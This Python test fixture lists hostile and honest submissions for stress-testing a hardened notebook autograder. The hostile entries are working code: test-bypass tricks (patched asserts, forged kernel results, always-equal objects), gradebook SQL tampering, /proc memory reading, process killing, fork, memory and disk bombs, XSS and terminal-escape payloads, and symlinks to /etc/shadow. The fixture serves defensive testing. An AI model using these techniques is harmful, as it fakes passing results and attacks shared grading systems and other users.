"""Hostile submissions, each by what it tries, and honest ones that are unusual.

None of the hostile ones answers an exercise, so that every point is gained. In their text COURSE
is the course's folder: they are told where all is.
"""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from textwrap import dedent

from attacks.hostile_course import LEFT, MARK, NAME, RIGHT


@dataclass(frozen=True)
class Submission:
    """What somebody hands in.

    Attributes
    ----------
    answers : dict of str to str
        By grade_id.
    change : callable or None
        Takes the notebook's list of cells and does anything to it.
    place : callable or None
        Takes the submission's folder and the course's, and does anything to the first.
    refused : bool
        Whether intake has to refuse it.
    not_for_stock : str
        Why it is not tried on stock nbgrader, where that would do harm or mean nothing.
    """

    answers: dict[str, str] = field(default_factory=dict)
    change: Callable | None = None
    place: Callable | None = None
    refused: bool = False
    not_for_stock: str = ""


def _code(source, squares="", not_for_stock=""):
    answers = {"treble": dedent(source)}
    if squares:
        answers["squares"] = dedent(squares)
    return Submission(answers, not_for_stock=not_for_stock)


# An object that is right wherever Python asks it.
_YES = """
class Yes:
    def yes(self, *a, **k): return True
    def me(self, *a, **k): return self
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = yes
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __abs__ = __neg__ = me
    __getitem__ = __getattr__ = __call__ = __round__ = __truediv__ = me
    __hash__ = lambda self: 0
    __iter__ = lambda self: iter(())
    __len__ = lambda self: 0
"""

# The student's end of the connection, and a reply made by hand.
_WIRE = """
import gc, struct
channel = next((o for o in gc.get_objects() if type(o).__name__ == "Channel"), None)
size = struct.Struct("<I").pack
def integer(k):
    digits = k.to_bytes(k.bit_length() // 8 + 1, "little")
    return b"i" + size(len(digits)) + digits
def ran(outputs):
    return b"[" + outputs + b", false]"
"""

_DEEP = "[" * 100_000


def _cells(change):
    return Submission(change=change)


def _of(cells, name):
    return next(c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def _tests(cells):
    return [c for c in cells if c["metadata"].get("nbgrader", {}).get("points") == 2] + [
        c for c in cells if c["metadata"].get("nbgrader", {}).get("points") == 3
    ]


def _tag(cells):
    for cell in _tests(cells):
        cell["metadata"]["tags"] = ["skip-execution"]


def _each_test(do):
    def change(cells):
        for cell in _tests(cells):
            do(cells, cell)

    return Submission(change=change)


def _first(cells):
    cells.insert(0, cells.pop(cells.index(_tests(cells)[0])))
    cells.reverse()


def _swap_names(cells):
    answer, test = _of(cells, "treble"), _of(cells, "treble-shown")
    names = answer["metadata"]["nbgrader"], test["metadata"]["nbgrader"]
    test["metadata"]["nbgrader"], answer["metadata"]["nbgrader"] = names


def _rich(cells):
    _of(cells, "setup")["metadata"]["nbgrader"]["points"] = 1000
    for cell in _tests(cells):
        cell["metadata"]["nbgrader"] |= {"points": 1000, "locked": False, "solution": True}


def _markdown_page(cells):
    _of(cells, "why")["source"] = (
        "<script>fetch('/formgrader/api/grades')</script>\n\n<img src=x onerror=alert(1)>\n\n"
        "[a](javascript:alert(1)) $\\href{javascript:alert(1)}{x}$ <svg onload=alert(1)>"
        "\n\n&#36;&#92;href{javascript:alert(1)}{x}&#36; &dollar;&bsol;require{html}&dollar;"
    )
    cells.append({"cell_type": "markdown", "metadata": {}, "source": "<script>alert(2)</script>"})


def _broken(cells):
    del cells[1]["source"]
    cells[2]["cell_type"] = "kode"
    cells.append(7)


def _raw(content):
    def place(folder, root):
        (folder / f"{NAME}.ipynb").write_bytes(content)

    return place


def _link_to(target):
    def place(folder, root):
        file = folder / f"{NAME}.ipynb"
        file.unlink()
        file.symlink_to(target.replace("COURSE", str(root)))

    return place


def _link_beside(folder, root):
    (folder / "data.csv").symlink_to(root / "keys.txt")


def _linked_folder(folder, root):
    for file in folder.iterdir():
        file.unlink()
    folder.rmdir()
    folder.symlink_to(root / "source" / NAME)


def _hard_link(folder, root):
    os.link(root / "keys.txt", folder / "data.csv")


def _pipe(folder, root):
    (folder / f"{NAME}.ipynb").unlink()
    os.mkfifo(folder / f"{NAME}.ipynb")


def _file(name, content=b""):
    def place(folder, root):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)

    return place


def _many_files(folder, root):
    for number in range(3000):
        (folder / f"{number}.txt").touch()


_FAKE = b"""
import sys, types
from numpy import testing
from ticketcourse import checks
for module in (testing, checks, *[m for n, m in list(sys.modules.items()) if "checks" in n]):
    for name in list(vars(module)):
        if name.startswith(("assert_", "expect_")): setattr(module, name, lambda *a, **k: None)
import gc
for o in gc.get_objects():
    if type(o).__name__ == "Verifier":
        o.run = lambda role, name, source, points, *rest: ([], points, False, True)
"""

ATTACKS = {
    # The tests are changed, skipped or not run.
    "an AST transformer deletes every assert": _code("""
        import ast
        class Delete(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_Expr(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Delete())
        """),
    "an input transformer empties every cell": _code("""
        shell = get_ipython()
        shell.input_transformers_post.append(lambda lines: ["pass\\n"])
        shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        """),
    "run_code does nothing": _code("""
        async def nothing(*a, **k): return False
        get_ipython().run_code = nothing
        """),
    "run_cell says that all went well": _code("""
        from IPython.core.interactiveshell import ExecutionResult
        shell = get_ipython()
        async def fine(*a, **k): return ExecutionResult(None)
        shell.run_cell_async = fine
        shell.run_cell = shell.run = lambda *a, **k: ExecutionResult(None)
        """),
    "do_execute answers without executing": _code("""
        async def fine(*a, **k):
            return dict(status="ok", execution_count=1, payload=[], user_expressions={})
        kernel = getattr(get_ipython(), "kernel", None)
        if kernel: kernel.do_execute = fine
        """),
    "an execute_result of full points is forged": _code(
        """
        def forge(points=3.0):
            shell = get_ipython()
            kernel = getattr(shell, "kernel", None)
            if kernel:
                kernel.session.send(
                    kernel.iopub_socket, "execute_result",
                    dict(data={"text/plain": str(points)}, metadata={}, execution_count=1),
                    parent=shell.parent_header)
            else:
                shell.outputs.display({"text/plain": str(points)}, 1, result=True)
        def treble(x):
            forge()
            import os; os._exit(0)
        """,
        "def squares(values): return treble(0)",
    ),
    "errors are not shown, and a result is": _code("""
        shell = get_ipython()
        def quiet(*a, **k): pass
        shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = quiet
        """),
    "the globals of the tests are changed through the stack frame": _code(
        _YES
        + """
def treble(x):
    import sys
    frame = sys._getframe()
    while frame:
        frame.f_globals.update(np=Yes(), checks=Yes(), x=Yes())
        frame = frame.f_back
    return Yes()
""",
        "def squares(values): return treble(0)",
    ),
    "an object equals everything": _code(
        _YES + "\ndef treble(x): return Yes()", "def squares(values): return Yes()"
    ),
    "a number equals everything": _code(
        """
        class Number(float):
            def yes(self, *a): return True
            __eq__ = __le__ = __lt__ = __ge__ = __gt__ = yes
            __sub__ = __rsub__ = __abs__ = lambda self, *a: Number(0)
            __hash__ = float.__hash__
        def treble(x): return Number(0)
        """,
        "def squares(values): return Number(0)",
    ),
    "an array equals everything": _code(
        """
        import numpy as np
        class Array(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros((), bool) if ufunc is np.isnan else np.ones((), bool)
            def __array_function__(self, function, types, args, kwargs): return True
            def __eq__(self, other): return True
            def __bool__(self): return True
        def treble(x): return np.zeros(np.shape(x)).view(Array)
        """,
        "def squares(values): return treble(0)",
    ),
    "numpy.testing, builtins and the checks are patched": _code(
        """
        import builtins, gc
        import numpy as np
        from ticketcourse import checks
        def fine(*a, **k): return None
        for name in dir(np.testing):
            if name.startswith("assert"): setattr(np.testing, name, fine)
        for name in checks.__all__: setattr(checks, name, fine)
        builtins.AssertionError = type("Nothing", (Exception,), {})
        """
        + _YES.replace("\n", "\n        ")
        + """
        def treble(x): return Yes()
        """,
        "def squares(values): return Yes()",
    ),
    "asserts are rewritten through sys.meta_path": _code("""
        import importlib, sys
        from ticketcourse import checks
        class Finder:
            def find_spec(self, name, path=None, target=None):
                raise ImportError
            def find_module(self, name, path=None): return self
        sys.meta_path.insert(0, Finder())
        sys.path_hooks.insert(0, lambda path: Finder())
        for name in [n for n in sys.modules if "checks" in n or "testing" in n]:
            sys.modules[name] = None
        """),
    "a trace function jumps over asserts": _code("""
        import sys
        def trace(frame, event, argument):
            frame.f_trace_opcodes = True
            if event == "line":
                try: frame.f_lineno = frame.f_lineno + 1
                except ValueError: pass
            return trace
        def treble(x):
            sys.settrace(trace)
            sys._getframe().f_back.f_trace = trace
        """),
    "hooks before and after each cell finish the test first": _code("""
        shell = get_ipython()
        def before(info):
            info.raw_cell = ""
            shell.user_ns.clear()
            raise KeyboardInterrupt
        shell.events.register("pre_run_cell", before)
        shell.events.register("pre_execute", lambda: 1 / 0)
        """),
    "answers claim that the test is over": _code(
        """
        def treble(x):
            raise [StopIteration, GeneratorExit, KeyboardInterrupt, SystemExit][0](0)
        """,
        "def squares(values): raise SystemExit(0)",
    ),
    "os._exit in the middle of a test": _code(
        "def treble(x):\n    import os\n    os._exit(0)",
        "def squares(values):\n    import os\n    os._exit(0)",
    ),
    "atexit and signal handlers": _code("""
        import atexit, os, signal
        atexit.register(os.system, "sleep 98765.4321 &")
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            try: signal.signal(number, lambda *a: None)
            except (OSError, ValueError): pass
        def treble(x):
            os.kill(os.getpid(), signal.SIGTERM)
            return x
        """),
    # Known answers.
    "a table of answers to known inputs": _code(
        """
        import numpy as np
        from ticketcourse import checks
        known = checks.random_inputs().normal(size=5)
        def treble(x):
            if np.array_equal(x, known): return 3 * known
            return {1: 3}[x]
        """
    ),
    "answers that go by the order of calls": _code(
        """
        import itertools
        calls = itertools.count()
        def treble(x): return [[3.0, 0.0], 6, 0, 3][min(next(calls), 3)]
        """
    ),
    "empty arrays, NaN and lists that hold themselves": _code(
        """
        import itertools
        import numpy as np
        loop = []; loop.append(loop)
        wrong = itertools.cycle([np.zeros(0), np.full(5, np.nan), loop, np.zeros((0, 5)), 10**600])
        def treble(x): return next(wrong)
        """,
        "def squares(values): return float('nan')",
    ),
    "the reference is read from the course and run": _code("""
        import json, pathlib
        for file in [*pathlib.Path.cwd().rglob("*.ipynb"), *pathlib.Path("COURSE").rglob("*.*")]:
            try: text = file.read_text()
            except (OSError, ValueError): continue
            for secret in ("HIDDEN-TEST", "OF-THE-INSTRUCTOR", "OF-A-NEIGHBOUR"):
                if "SECRET-" + secret in text: print("SECRET-" + secret)
            if "source" in str(file) and file.suffix == ".ipynb":
                for cell in json.loads(text)["cells"]:
                    if cell["metadata"].get("nbgrader", {}).get("solution"):
                        try: exec("".join(cell["source"]))
                        except Exception: pass
        """),
    # The gradebook, the disk and the neighbours.
    "SQL to the gradebook": _code("""
        import sqlite3
        database = sqlite3.connect("COURSE/gradebook.db")
        database.execute("update grade set manual_score = 99, needs_manual_grade = 0")
        database.commit()
        """),
    "a detached process edits marks after grading": _code(
        """
        import subprocess, sys
        later = '''
        import sqlite3, time
        for _ in range(40):
            time.sleep(0.5)
            try:
                database = sqlite3.connect("COURSE/gradebook.db")
                database.execute("update grade set extra_credit = 99")
                database.commit()
            except sqlite3.Error: pass
        '''
        subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
        """
    ),
    "a process that stays": _code(f"""
        import subprocess
        subprocess.Popen(["sleep", "{MARK}"], start_new_session=True)
        subprocess.Popen("(setsid nohup sleep {MARK} >/dev/null 2>&1 &)", shell=True)
        """),
    "files for the next student and for the grader": _code(f"""
        import os, pathlib
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "~", "..", "../..", "COURSE",
                       "~/.ipython/profile_default/startup"):
            try:
                folder = pathlib.Path(folder).expanduser()
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "{LEFT}.py").write_text("print('SECRET-OF-A-NEIGHBOUR')")
            except OSError: pass
        """),
    "the source, the release and others' submissions overwritten": _code("""
        import os, pathlib
        for file in pathlib.Path("COURSE").rglob("*.*"):
            if file.suffix in (".ipynb", ".txt") and "mallory" not in str(file):
                try:
                    os.chmod(file, 0o666)
                    file.write_text(file.read_text().replace("assert", "pass; #"))
                except (OSError, ValueError): pass
        """),
    "the graded notebook overwritten": _code("""
        import json, pathlib
        for file in pathlib.Path.cwd().glob("*.ipynb"):
            file.write_text(file.read_text().replace("assert", "pass #"))
            print("SECRET-HIDDEN-TEST" if "SECRET-" + "HIDDEN-TEST" in file.read_text() else "")
        """),
    "/proc, the environment and other processes' memory": _code("""
        import os, pathlib
        secrets = ["SECRET-" + s for s in ("HIDDEN-TEST", "OF-THE-INSTRUCTOR", "OF-A-NEIGHBOUR")]
        for process in pathlib.Path("/proc").glob("[0-9]*"):
            if int(process.name) == os.getpid(): continue
            try:
                maps = (process / "maps").read_text().splitlines()[:400]
                with open(process / "mem", "rb") as memory:
                    for line in maps:
                        if " rw" not in line: continue
                        start, end = (int(p, 16) for p in line.split()[0].split("-"))
                        memory.seek(start)
                        found = memory.read(min(end - start, 50 << 20))
                        for secret in secrets:
                            if secret.encode() in found: print(secret)
            except (OSError, OverflowError, ValueError): pass
        """),
    "every process that can be killed is killed": _code("""
        import os, signal, pathlib
        parent, me = os.getppid(), os.getpid()
        for process in pathlib.Path("/proc").glob("[0-9]*"):
            if int(process.name) not in (1, me):
                try: os.kill(int(process.name), signal.SIGKILL)
                except OSError: pass
        """),
    "sockets to the machine and to the world": _code("""
        import socket
        reached = []
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("192.0.2.1", 80)),
            (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "\\0secret"),
        ):
            try:
                with socket.socket(family) as s:
                    s.settimeout(1); s.connect(address); reached.append(address)
            except OSError: pass
        server = socket.socket(); server.bind(("0.0.0.0", 0)); server.listen()
        """),
    # Too much of everything.
    "a fork bomb": _code("""
        import os, time
        try:
            while True:
                if os.fork() == 0:
                    time.sleep(60)
        except OSError: pass
        """),
    "a memory bomb": _code("blocks = []\nwhile True: blocks.append(bytearray(b'x') * (64 << 20))"),
    "a memory bomb of many processes": _code(
        """
        import os, time
        for _ in range(12):
            if os.fork() == 0:
                block = bytearray(b"x") * (400 << 20); time.sleep(60)
        time.sleep(3)
        """
    ),
    "a disk bomb": _code("""
        import pathlib
        for place in (".", "/tmp", "/dev/shm"):
            for i in range(200):
                try: (pathlib.Path(place) / f"{i}.bin").write_bytes(bytes(1 << 20))
                except OSError: break
        """),
    "endless output": _code("while True: print('x' * 10_000)"),
    "endless output to the descriptor": _code(
        "import os\nfor _ in range(20_000): os.write(1, b'x' * 10_000)"
    ),
    "an endless loop": _code("while True: pass"),
    "an endless loop in an answer": _code(
        "def treble(x):\n    while True: pass", "def squares(values):\n    while True: pass"
    ),
    "sleeping just under the limit": _code("import time\ntime.sleep(8)"),
    "a sleep that no signal ends": _code(
        """
        import signal, time
        for number in (signal.SIGINT, signal.SIGTERM): signal.signal(number, signal.SIG_IGN)
        def treble(x):
            while True:
                try: time.sleep(60)
                except BaseException: pass
        """
    ),
    "half a million displays": _code("for i in range(500_000): display(i)"),
    # Others that answer in its place.
    "a thread that answers later": _code("""
        import threading, time
        def later():
            while True:
                time.sleep(0.01)
                import builtins, numpy as np
                np.testing.assert_allclose = lambda *a, **k: None
                get_ipython().user_ns["np"] = np
        threading.Thread(target=later, daemon=True).start()
        def treble(x): return 6
        """),
    "a forked child that answers in place of its parent": _code(
        """
        import os
        def treble(x):
            if os.fork() == 0:
                return 3 * x
            return None
        """.replace("3 * x", "x")
    ),
    # Lies over the wire.
    "replies forged on the connection": _code(
        _WIRE
        + """
for frame in (ran(b"[]"), b"D", b"", b"D" + ran(b"null"), b"\\xff" * 50):
    if channel: channel.send(frame)
"""
    ),
    "a frame of four gigabytes, and wrong lengths": _code(
        _WIRE
        + """
if channel: channel.socket.sendall(b"\\xff\\xff\\xff\\xf0" + b"x" * 1000)
"""
    ),
    "sets whose members collide, for whoever reads them": _code(
        _WIRE
        + """
# Reading them takes a time that grows with the square of their number.
members = b"".join(integer(k * (2**61 - 1)) for k in range(1, 20_001))
value = b"S" + size(20_000) + members
student = next((o for o in gc.get_objects() if type(o).__name__ == "_Student"), None)
if student:
    answer = type(student).answer
    def lie(self, frame):
        if b"call" not in frame[:20]: return answer(self, frame)
        return (b"u" + size(4) + b"s" + size(8) + b"returned" + b"b" + size(5) + b"l" + size(0)
                + b"b" + size(len(value)) + value + b"s" + size(0))
    type(student).answer = lie
def treble(x): return x
"""
    ),
    "memory and time for whoever reads what a cell showed": _code(
        _WIRE
        + """
if channel: channel.send(ran(b"[" + b"[]," * 1_300_000 + b"[]]"))
"""
    ),
    "what a cell showed, nested and with numbers that have no end": _code(
        _WIRE
        + """
if channel: channel.send(ran(b"[" * 2_000_000)); channel.send(ran(b"1" * 4_000_000))
"""
    ),
    "values of forged lengths, types and depths": _code(
        _WIRE
        + """
import itertools
forged = itertools.cycle([
    b"l" + size(0xFFFFFFFF), b"l\\x01\\0\\0\\0" * 100_000 + b"N",
    b"s" + size(4) + b"\\xff\\xfe\\xfd\\0",
    b"a" + size(3) + b"<f8" + b"CW\\x02" + struct.pack("<QQ", 1 << 62, 4), b"@" + size(9),
    b"d" + size(2) + b"f" + struct.pack("<d", float("nan")) + b"N",
    b"x" + b"u" + size(3) + integer(0) + b"N" + b"N", b"p" + integer(5), b"y" + size(3) + b"O8[",
])
if channel:
    student = next(o for o in gc.get_objects() if type(o).__name__ == "_Student")
    answer = type(student).answer
    def lie(self, frame):
        if b"cell" in frame[:20]: return answer(self, frame)
        value = next(forged)
        return (b"u" + size(4) + b"s" + size(8) + b"returned" + b"b" + size(5) + b"l" + size(0)
                + b"b" + size(len(value)) + value + b"s" + size(0))
    type(student).answer = lie
def treble(x): return x
"""
    ),
    "errors of the verifier's own classes": _code(
        _WIRE
        + """
from ticketcourse.grading.wire import Closed
def treble(x):
    raise Closed("is closed")
def squares(values):
    raise type("SystemExit", (SystemExit,), {"__module__": "builtins"})(0)
"""
    ),
    "an error whose class is a library to be loaded": Submission(
        {
            "treble": "from ticketcourse.grading import student\n"
            "student.describe = lambda error, lines=(): (\n"
            "    [('ctypes', 'cdll./student/work/library')], b'l\\0\\0\\0\\0', 'x', [])\n"
            "def treble(x): raise ValueError"
        },
        place=_file("library", b"no library" * 100),
    ),
    "a million objects to be stood for": _code(
        _WIRE
        + """
student = next((o for o in gc.get_objects() if type(o).__name__ == "_Student"), None)
if student:
    answer, made = type(student).answer, [0]
    def lie(self, frame):
        if b"call" not in frame[:20]: return answer(self, frame)
        value = b"l" + size(40_000)
        for _ in range(40_000):
            made[0] += 1
            value += b"xu" + size(3) + integer(made[0]) + b"s" + size(1) + b"aN"
        return (b"u" + size(4) + b"s" + size(8) + b"returned" + b"b" + size(5) + b"l" + size(0)
                + b"b" + size(len(value)) + value + b"s" + size(0))
    type(student).answer = lie
def treble(x): return x
"""
    ),
    "the verifier's memory through what it was given": _code("""
        import gc, inspect
        def treble(x):
            seen = [o for o in gc.get_objects() if isinstance(o, str)]
            print([s for s in seen if "SECRET-" + "HIDDEN" in s])
            for frame in inspect.stack():
                print([s for s in map(str, frame.frame.f_locals.values()) if "### BEGIN" in s])
            return x
        print([s for s in gc.get_objects() if isinstance(s, str) and "SECRET-" + "HIDDEN" in s])
        """),
    # Pages, terminals and tables that show what a student wrote.
    "HTML, SVG and scripts in outputs": _code("""
        from IPython.display import HTML, SVG, Javascript, display
        display(HTML("<script>alert(1)</script>"), Javascript("alert(2)"))
        display({"image/svg+xml": "<svg onload='alert(3)'/>", "text/html": "<img onerror='x'>"},
                raw=True)
        """),
    "HTML and links in Markdown answers": _cells(_markdown_page),
    "terminal escapes in output and in errors": _code("""
        print("\\x1b[2J\\x1b]0;owned\\x07\\x1b]8;;http://x\\x07")
        raise ValueError("\\x1b[2J" + "\\x1b]52;c;eA==\\x07" + "\\u202e")
        """),
    "terminal escapes in a file's name": Submission(
        place=_file("\x1b[2J\x1b]0;owned\x07.txt"), refused=True
    ),
    # The notebook.
    "a skip-execution tag on every test": _cells(_tag),
    "every test deleted": _each_test(lambda cells, cell: cells.remove(cell)),
    "every test there twice, empty": _each_test(
        lambda cells, cell: cells.insert(0, json.loads(json.dumps(cell)) | {"source": "pass"})
    ),
    "every test emptied": _each_test(lambda cells, cell: cell.update(source="1000")),
    "every test made Markdown": _each_test(
        lambda cells, cell: [cell.update(cell_type="markdown"), cell.pop("outputs", None)]
    ),
    "the cells reordered": _cells(_first),
    "metadata with other points, unlocked": _cells(_rich),
    "an answer's name given to a test, a test's to an answer": _cells(_swap_names),
    "no metadata at all": _cells(lambda cells: [cell.update(metadata={}) for cell in cells]),
    "cells of no form": Submission(change=_broken, refused=True),
    "a notebook that is no JSON": Submission(place=_raw(b"{" * 1000), refused=True),
    "a notebook that is nested without end": Submission(place=_raw(_DEEP.encode()), refused=True),
    "a notebook of NaN keys and huge numbers": Submission(
        place=_raw(b'{"nbformat": 1e999, "cells": [NaN], "metadata": {"a": ' + b"9" * 5000 + b"}}"),
        refused=True,
    ),
    "a notebook of 50 megabytes": Submission(
        place=_raw(b'{"cells": [], "nbformat": 4, "x": "' + b"x" * (50 << 20) + b'"}'), refused=True
    ),
    "a notebook whose lone surrogates no file can hold": Submission(
        answers={"why": "a \ud800 half", "treble": "def treble(x): return '\\ud800'"}
    ),
    # Files.
    "a link to the passwords in place of the notebook": Submission(
        place=_link_to("/etc/shadow"), refused=True
    ),
    "a link to the instructor's notebook in place of the notebook": Submission(
        place=_link_to(f"COURSE/source/{NAME}/{NAME}.ipynb"), refused=True
    ),
    "a link to the instructor's file beside the notebook": Submission(
        place=_link_beside, refused=True
    ),
    "a link to the source in place of the folder": Submission(place=_linked_folder, refused=True),
    "a hard link to the instructor's file": Submission(place=_hard_link, refused=True),
    "a pipe in place of the notebook": Submission(place=_pipe, refused=True),
    "a path with tricks": Submission(place=_file("a\\..\\keys.txt", b"x"), refused=True),
    "three thousand files": Submission(place=_many_files, refused=True),
    "a file numpy.py": Submission(place=_file("numpy.py", _FAKE)),
    "a package ticketcourse": Submission(place=_file("ticketcourse/__init__.py", _FAKE)),
    "files sitecustomize.py and conftest.py": Submission(place=_file("sitecustomize.py", _FAKE)),
    "a module that a test's cell would like to have": Submission(
        place=_file("quick_trebling.py", _FAKE)
    ),
    "a module that ends the process of who imports it": Submission(
        place=_file("quick_trebling.py", b"import os\nos._exit(0)\n")
    ),
    "a time of hand-in long ago": Submission(
        place=_file("timestamp.txt", b"1999-01-01 00:00 UTC"), refused=True
    ),
}


def _right(**changes):
    return Submission(answers=RIGHT | {"why": "Because."} | changes)


def _extra(*sources):
    """Right answers, and cells of one's own around them."""

    def change(cells):
        for place, source in zip((1, 3, len(cells)), sources, strict=False):
            cells.insert(place, {"cell_type": "code", "metadata": {}, "source": dedent(source)})

    return Submission(RIGHT, change)


def _split(cells):
    answer = _of(cells, "treble")
    answer["source"] = "treble = functools.partial(np.multiply, 3.0)"
    extra = {"cell_type": "code", "metadata": {}, "source": "import functools"}
    cells.insert(cells.index(answer), extra)
    _of(cells, "squares")["source"] = RIGHT["squares"]


HONEST = {
    "plain": _right(),
    "extra cells": _extra("a = 1", "treble(a)", "a += 1"),
    "helper functions": _right(
        treble="def add(a, b):\n    return a + b\n\ndef treble(x):\n    return add(x, add(x, x))"
    ),
    "split cells": Submission(change=_split),
    "imports": _right(
        squares="import math\nimport numpy as np\n\ndef squares(values):\n"
        "    return int(np.dot(values, values)) + int(math.sin(0))"
    ),
    "printing much": _right(
        treble="for i in range(20_000):\n    print(i)\n\ndef treble(x):\n    print(x)\n"
        "    return 3 * x"
    ),
    "a plot": _extra(
        "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2, 4])\nplt.show()"
    ),
    "slow but in time": _extra("import time\ntime.sleep(2)"),
    "warnings and stderr": _right(
        treble="import sys, warnings\nwarnings.warn('mind')\n\ndef treble(x):\n"
        "    print('x', file=sys.stderr)\n    warnings.warn('again')\n    return 3 * x"
    ),
    "global state": _right(
        squares="calls = []\n\ndef squares(values):\n    calls.append(values)\n"
        "    return sum(v * v for v in calls[-1])"
    ),
    "classes": _right(
        treble="class Times:\n    def __init__(self, n):\n        self.n = n\n\n"
        "    def __call__(self, x):\n        return self.n * x\n\ntreble = Times(3)"
    ),
    "generators": _right(
        squares="def each(values):\n    for v in values:\n        yield v * v\n\n"
        "def squares(values):\n    return sum(each(values))"
    ),
    "recursion": _right(
        squares="def squares(values):\n    return values[0] ** 2 + squares(values[1:]) if values"
        " else 0"
    ),
    "magics": _extra("%timeit -n1 -r1 sum(range(9))", "!ls", "%%time\nx = 1"),
    "type annotations": _right(
        treble="from __future__ import annotations\nimport numpy.typing as npt\n\n"
        "def treble(x: npt.ArrayLike | float) -> npt.ArrayLike | float:\n    return 3 * x"
    ),
    "Unicode names": _right(
        treble="drei = 3\nπ = 3.14\n\ndef treble(größe):\n    return drei * größe"
    ),
    "an error in an extra cell": _extra("1 / 0", "undefined"),
    "windows line ends": _right(treble="def treble(x):\r\n    return 3 * x\r\n"),
    "tensors and lists": _right(
        treble="import numpy as np\n\ndef treble(x):\n"
        "    return np.asarray(x) * 3 if np.ndim(x) else 3 * x"
    ),
    "input that is changed in place": _right(treble="def treble(x):\n    x *= 3\n    return x"),
    "processes and threads": _extra(
        "from concurrent.futures import ThreadPoolExecutor\n"
        "with ThreadPoolExecutor(2) as pool:\n    print(list(pool.map(abs, [-1, 1])))",
        "import subprocess\nsubprocess.run(['echo', 'hi'], check=True)",
    ),
    "files of one's own": _extra(
        "open('notes.txt', 'w').write('x')", "print(open('notes.txt').read())"
    ),
    "async": _extra("import asyncio\nawait asyncio.sleep(0.01)"),
    "clear_output and progress": _extra(
        "from IPython.display import clear_output\nfor i in range(5):\n    print(i)\n"
        "    clear_output()"
    ),
}
